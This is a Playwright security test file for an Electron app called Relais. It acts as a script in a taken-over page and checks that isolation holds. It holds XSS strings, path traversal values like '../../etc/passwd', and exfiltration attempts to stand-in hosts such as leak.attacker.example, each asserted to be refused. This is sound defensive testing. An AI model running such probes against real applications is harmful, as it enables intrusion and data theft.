import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { createServer as createTcpServer, type AddressInfo } from 'node:net'
import { createSocket } from 'node:dgram'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from '@playwright/test'
import { launchRelais, type Relais } from './launch.ts'
import { openProbe } from './probe.ts'

/**
 * The page is taken over: what a script in it could do with every right that the page has. `evaluate` runs in the page's
 * own world, past the content policy, as an attacker would wish. Where a test waits a moment, it is because what must not
 * happen has no event to wait for.
 */
let folder: string
let relais: Relais
let server: Server
let outside: string
const requests: string[] = []

test.beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'relais security '))
  server = createServer((request, response) => {
    requests.push(request.url ?? '')
    response.end('here')
  })
  await new Promise<void>(ready => server.listen(0, '127.0.0.1', ready))
  outside = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  relais = await launchRelais({ args: [`--log-net-log=${join(folder, 'net.json')}`] })
  await relais.app.evaluate(({ shell }) => {
    const opened: string[] = []
    Object.assign(globalThis, { opened })
    shell.openExternal = address => Promise.resolve(void opened.push(address))
  })
})

test.afterAll(async () => {
  await relais.close()
  server.close()
  rmSync(folder, { recursive: true, force: true })
})

const home = 'app://relais/index.html'
const windows = () => relais.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)

/** What the page's port or the bridge answers to a call: its error code, or `answered`. */
const codeOf = (area: string, name: string, input: unknown) =>
  relais.page.evaluate(
    async ([area, name, input]) => {
      const bridge = window.relais as unknown as Record<
        string,
        Record<string, (input: unknown) => Promise<{ error?: { code: string } }>>
      >
      return (await bridge[area]?.[name]?.(input))?.error?.code ?? 'answered'
    },
    [area, name, input] as const
  )

test('nothing of Node or Electron is within reach', async () => {
  const found = await relais.page.evaluate(() => {
    const names = [
      'require',
      'process',
      'module',
      'global',
      'Buffer',
      'electron',
      'ipcRenderer',
      '__dirname',
      'setImmediate'
    ]
    return names.filter(name => name in window)
  })
  expect(found).toEqual([])
})

test('the bridge is named functions only, and cannot be bent', async () => {
  const shape = await relais.page.evaluate(() => {
    const before = window.relais.link.open
    try {
      Object.assign(window.relais.link, { open: () => 'mine' })
    } catch {
      // Frozen, as it should be.
    }
    const kinds = Object.entries(window.relais).flatMap(([area, calls]) =>
      typeof calls === 'function' ? [area] : Object.keys(calls).map(name => `${area}.${name}`)
    )
    return { kinds, same: window.relais.link.open === before }
  })
  expect(shape.same).toBe(true)
  expect(shape.kinds).not.toContain('send')
  expect(shape.kinds.filter(name => /invoke|ipc|eval/i.test(name))).toEqual([])
})

test('no new window opens', async () => {
  const before = await windows()
  const opened = await relais.page.evaluate(outside => {
    const tried = [outside, 'about:blank', 'app://relais/passphrase.html', 'file:///etc/passwd', 'javascript:1']
    return tried.map(address => window.open(address) !== null)
  }, outside)
  expect(opened).toEqual([false, false, false, false, false])
  await relais.page.evaluate(outside => {
    const link = Object.assign(document.createElement('a'), { href: outside, target: '_blank' })
    document.body.append(link)
    link.click()
    link.remove()
  }, outside)
  expect(await windows()).toBe(before)
})

test('the page cannot go elsewhere, nor be sent', async () => {
  writeFileSync(join(folder, 'page.html'), '<p>here</p>')
  const addresses = [
    outside,
    `file://${folder}/page.html`,
    'data:text/html,<p>here',
    'app://relais/report.html',
    'blob:null/x'
  ]
  for (const address of addresses) {
    await relais.page.evaluate(address => {
      location.href = address
      const form = Object.assign(document.createElement('form'), { action: address, method: 'post' })
      const meta = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${address}` })
      const frame = Object.assign(document.createElement('iframe'), { src: address })
      document.body.append(form, meta, frame)
      form.submit()
    }, address)
    await relais.page.evaluate(() => new Promise(resolve => setTimeout(resolve, 100)))
    expect(relais.page.url(), address).toBe(home)
    const framed = relais.page.frames().filter(frame => frame !== relais.page.mainFrame())
    expect(framed.map(frame => frame.url())).not.toContain(address)
  }
  await relais.page.evaluate(() =>
    document.querySelectorAll('iframe, form, meta[http-equiv]').forEach(node => node.remove())
  )
})

test('a script in markup, in an address or in a string does not run', async () => {
  const ran = await relais.page.evaluate(async () => {
    const place = document.createElement('div')
    document.body.append(place)
    place.innerHTML =
      '<img src="x:" onerror="window.ran = 1"><svg onload="window.ran = 2"></svg><a href="javascript:window.ran = 3">x</a>'
    place.querySelector('a')?.click()
    const script = document.createElement('script')
    script.textContent = 'window.ran = 4'
    place.append(script)
    const styled = document.createElement('style')
    styled.textContent = 'body { visibility: hidden }'
    place.append(styled)
    await new Promise(resolve => setTimeout(resolve, 200))
    const { visibility } = getComputedStyle(document.body)
    place.remove()
    return [(window as { ran?: number }).ran, visibility]
  })
  expect(ran).toEqual([undefined, 'visible'])
})

test('no request leaves, by whatever road', async () => {
  requests.length = 0
  const refused = await relais.page.evaluate(async outside => {
    const get = (work: () => Promise<unknown>) =>
      work().then(
        () => 'went',
        () => 'refused'
      )
    const answers = await Promise.all([
      get(() => fetch(`${outside}/fetch`)),
      get(() => fetch(`${outside}/no-cors`, { mode: 'no-cors' })),
      get(() => fetch('file:///etc/passwd')),
      get(() => fetch('app://relais/../main/index.js')),
      get(() => fetch('https://example.org/')),
      get(() => import(/* @vite-ignore */ `${outside}/module.js`))
    ])
    navigator.sendBeacon(`${outside}/beacon`)
    const add = (tag: string, fields: object) =>
      document.body.append(Object.assign(document.createElement(tag), fields))
    add('img', { src: `${outside}/img` })
    add('script', { src: `${outside}/script` })
    add('video', { src: `${outside}/video` })
    add('object', { data: `${outside}/object` })
    add('embed', { src: `${outside}/embed` })
    for (const rel of ['stylesheet', 'prefetch', 'preconnect', 'modulepreload', 'icon', 'manifest'])
      add('link', { rel, href: `${outside}/${rel}` })
    add('link', { rel: 'dns-prefetch', href: '//leak.attacker.example' })
    add('link', { rel: 'preconnect', href: 'https://leak.attacker.example' })
    const font = new FontFace('x', `url(${outside}/font)`)
    answers.push(await get(() => font.load()))
    for (const open of [
      () => new WebSocket(outside.replace('http', 'ws')),
      () => new EventSource(`${outside}/events`),
      () => new Worker(`${outside}/worker`)
    ]) {
      try {
        open()
      } catch {
        // Refused at once.
      }
    }
    await new Promise(resolve => setTimeout(resolve, 1_000))
    document.querySelectorAll('body > :is(img, script, video, object, embed, link)').forEach(node => node.remove())
    return answers
  }, outside)
  expect(new Set(refused)).toEqual(new Set(['refused']))
  expect(requests).toEqual([])
})

test('WebRTC, which no content policy covers, reaches nobody', async () => {
  const heard: string[] = []
  const udp = createSocket('udp4').on('message', () => heard.push('udp'))
  await new Promise<void>(ready => udp.bind(0, '127.0.0.1', ready))
  const tcp = createTcpServer(() => heard.push('tcp'))
  await new Promise<void>(ready => tcp.listen(0, '127.0.0.1', ready))
  await relais.page.evaluate(
    async ([udp, tcp]) => {
      const connection = new RTCPeerConnection({
        iceServers: [
          { urls: [`stun:127.0.0.1:${udp}`, 'stun:leak.attacker.example:3478'] },
          { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'a', credential: 'b' }
        ]
      })
      connection.createDataChannel('x')
      const gathered = new Promise<void>(done => {
        connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && done()
      })
      await connection.setLocalDescription(await connection.createOffer())
      await gathered
      connection.close()
    },
    [udp.address().port, (tcp.address() as AddressInfo).port] as const
  )
  udp.close()
  tcp.close()
  expect(heard).toEqual([])
})

test('no permission, device or download is granted', async () => {
  const answers = await relais.page.evaluate(async () => {
    const ask = (work: () => Promise<unknown>) =>
      work().then(
        () => 'granted',
        () => 'refused'
      )
    const states = await Promise.all(
      ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi'].map(
        async name => (await navigator.permissions.query({ name: name as PermissionName })).state
      )
    )
    return [
      ...states,
      await ask(() => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))),
      await ask(() => navigator.mediaDevices.getUserMedia({ audio: true })),
      await ask(() => navigator.mediaDevices.getDisplayMedia()),
      await ask(() => navigator.clipboard.readText()),
      await ask(async () => (await Notification.requestPermission()) === 'granted' || Promise.reject(new Error('no')))
    ]
  })
  expect(answers.filter(answer => answer !== 'denied' && answer !== 'refused')).toEqual([])
  const downloads = await relais.app.evaluate(async ({ session, BrowserWindow }) => {
    const states: string[] = []
    session.defaultSession.on('will-download', (event, item) =>
      states.push(event.defaultPrevented ? 'refused' : item.getState())
    )
    await BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(`new Promise(resolve => {
      const link = Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'x.txt' })
      link.click()
      setTimeout(resolve, 300)
    })`)
    return states
  })
  expect(downloads.filter(state => state !== 'refused')).toEqual([])
})

test('a link opens outside only if it is one', async () => {
  for (const url of [
    'http://a.example/',
    'file:///etc/passwd',
    'javascript:alert(1)',
    'smb://a/b',
    'https://a@b.example/',
    ''
  ]) {
    expect(await codeOf('link', 'open', { url }), url).toBe('link-refused')
  }
  expect(await codeOf('link', 'open', { url: 'https://example.org/a b' })).toBe('answered')
  expect(await relais.app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)).toEqual([
    'https://example.org/a%20b'
  ])
})

test('what the page sends to the desk is checked', async () => {
  const id = '01900000-0000-7000-8000-000000000000'
  const malformed: [string, string, unknown][] = [
    [
      'workspace',
      'create',
      { name: 'x', zone: 'Europe/Paris', person: { name: 'x', email: 'x@x.example' }, file: '/etc/passwd' }
    ],
    ['workspace', 'create', { name: '', zone: 'Europe/Paris', person: { name: 'x', email: 'x@x.example' } }],
    ['workspace', 'open', { file: '/etc/passwd' }],
    ['workspace', 'openRecent', { token: '/etc/passwd' }],
    ['session', 'unlock', { person: id, passphrase: 'x' }],
    ['review', 'decide', { review: id, verdict: 'sign' }],
    ['review', 'decide', { review: id, verdict: 'approve', passphrase: 'x' }],
    ['people', 'add', { name: 'x', email: 'x@x.example', roles: ['engine'] }],
    ['import', 'pick', { job: id, paths: ['/etc/passwd'] }],
    ['media', 'pick', { paths: ['/etc/passwd'] }],
    ['report', 'print', { month: '2026-07', lang: 'fr', paper: 'A4', file: '/etc/cron.d/x' }],
    ['report', 'print', { month: '../../x', lang: 'fr', paper: 'A4' }],
    ['account', 'add', { connector: 'mastodon', name: 'x', settings: {}, secret: 'x' }],
    ['account', 'change', { account: id, settings: {}, secret: 'x' }],
    ['account', 'setSecret', { account: id, secret: 'x' }],
    ['account', 'connect', { account: id, url: 'https://attacker.example/' }],
    ['account', 'showFolder', { account: id, folder: '/etc' }],
    ['preferences', 'set', { theme: 'url(x)' }],
    ['clipboard', 'copy', { text: 'x'.repeat(50_000_000) }],
    ['link', 'open', 'https://example.org/']
  ]
  for (const [area, name, input] of malformed)
    expect(await codeOf(area, name, input), `${area}.${name}`).toBe('bad-input')
  expect(await codeOf('workspace', 'openRecent', { token: id })).toBe('workspace-missing')
})

test('what the page sends to the engine is checked, and 50 MB do not bring it down', async () => {
  await relais.app.evaluate(
    ({ dialog }, file) => {
      dialog.showSaveDialog = () => Promise.resolve({ canceled: false, filePath: file })
    },
    join(folder, 'workspace.relais')
  )
  const asked = relais.app.waitForEvent('window')
  const made = relais.page.evaluate(() =>
    window.relais.workspace.create({
      name: 'Essai',
      zone: 'Europe/Paris',
      person: { name: 'Ada', email: 'ada@x.example' }
    })
  )
  const form = await asked
  await form.getByLabel('Passphrase', { exact: true }).fill('une phrase secrète')
  await form.getByLabel('The same passphrase again').fill('une phrase secrète')
  await form.keyboard.press('Enter')
  expect(await made).toMatchObject({ answer: { name: 'Essai' } })
  await openProbe(relais.page)
  const codes = await relais.page.evaluate(async () => {
    const call = async (...args: unknown[]) => (await window.probe(...args)).code ?? 'answered'
    const junk = [null, 1, 'x', [], { t: 'q' }, { t: 'q', i: 'x', m: 'constructor', a: [] }, { t: 's', i: 'x' }]
    for (const message of junk) window.probePort.postMessage(message)
    const huge = 'x'.repeat(50_000_000)
    const id = '01900000-0000-7000-8000-000000000000'
    return {
      known: await call('workspace.info', {}),
      shell: [
        await call('people.unlock', { person: 'Ada', passphrase: 'une phrase secrète' }),
        await call('people.actAs', { person: 'Ada' }),
        await call('review.decide', {}),
        await call('releases.importPaths', { job: 'x', paths: ['/etc/passwd'] }),
        await call('accounts.add', { connector: 'feed', name: 'x', settings: { folder: '/tmp' } }),
        await call('accounts.change', { id, settings: { folder: '/tmp' } }),
        await call('accounts.setSecret', { id, secret: 'x' }),
        await call('accounts.authorize', { id }),
        await call('accounts.authorized', { id }),
        await call('accounts.cancelAuthorize', { id })
      ],
      unknown: [await call('constructor', {}), await call('__proto__', {}), await call('', {}), await call(huge, {})],
      malformed: [
        await call('releases.get', { id: '../../etc/passwd' }),
        await call('releases.get', { id: { toString: 'x' } }),
        await call('releases.list', { limit: 1e9 }),
        await call('releases.create', { body: huge }),
        await call('releases.search', { query: 'x', path: '/etc' }),
        await call('releases.import', { job: 'x', files: [{ name: 'x', bytes: 'x', path: '/etc/passwd' }] })
      ],
      still: await call('workspace.info', {})
    }
  })
  expect(codes.known).toBe('answered')
  expect(new Set(codes.shell)).toEqual(new Set(['no-such-call']))
  expect(new Set(codes.unknown)).toEqual(new Set(['no-such-call']))
  expect(new Set(codes.malformed)).toEqual(new Set(['bad-input']))
  expect(codes.still).toBe('answered')
})

test('the passphrase window and the page do not reach each other', async () => {
  const people = await relais.page.evaluate(() => window.relais.workspace.recent())
  expect(people).toHaveProperty('answer')
  const reach = await relais.page.evaluate(() => ['relaisPassphrase', 'relaisReport'].filter(name => name in window))
  expect(reach).toEqual([])
})

/** Runs last: the log is complete once the program has ended. */
test('no name was looked up', async () => {
  await relais.app.close()
  const log = readFileSync(join(folder, 'net.json'), 'utf8')
  expect(log.length).toBeGreaterThan(1_000)
  expect(log).not.toContain('attacker.example')
})
